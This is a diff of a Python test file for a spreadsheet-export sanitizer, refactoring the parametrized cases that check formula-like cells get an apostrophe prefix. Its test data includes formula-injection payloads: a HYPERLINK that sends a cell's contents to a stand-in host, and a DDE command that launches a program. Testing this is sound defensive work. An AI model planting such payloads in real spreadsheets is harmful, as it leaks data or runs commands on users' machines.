@@ -18,17 +18,16 @@ from support import run, toy_plan
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
 
 
-@pytest.mark.parametrize(
-    "text",
-    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-", "+x", "-inf", "--3"],
-)
+FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "-", "+x", "-inf"]
+OTHERS = [-3, -0.5, None, True, "", "-3", "+2.5", "-1.5e-07", "toy/default", "a=b", "x@y", "'="]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
 def test_text_that_begins_like_a_formula_is_marked(text: str) -> None:
     assert sheet.inert(text) == "'" + text
 
 
-@pytest.mark.parametrize(
-    "cell", [-3, -0.5, None, True, "", "-3", "+2.5", "-1.5e-07", "toy/default", "a=b", "x@y", "'="]
-)
+@pytest.mark.parametrize("cell", OTHERS)
 def test_numbers_and_other_text_stay(cell: object) -> None:
     assert sheet.inert(cell) is cell
 
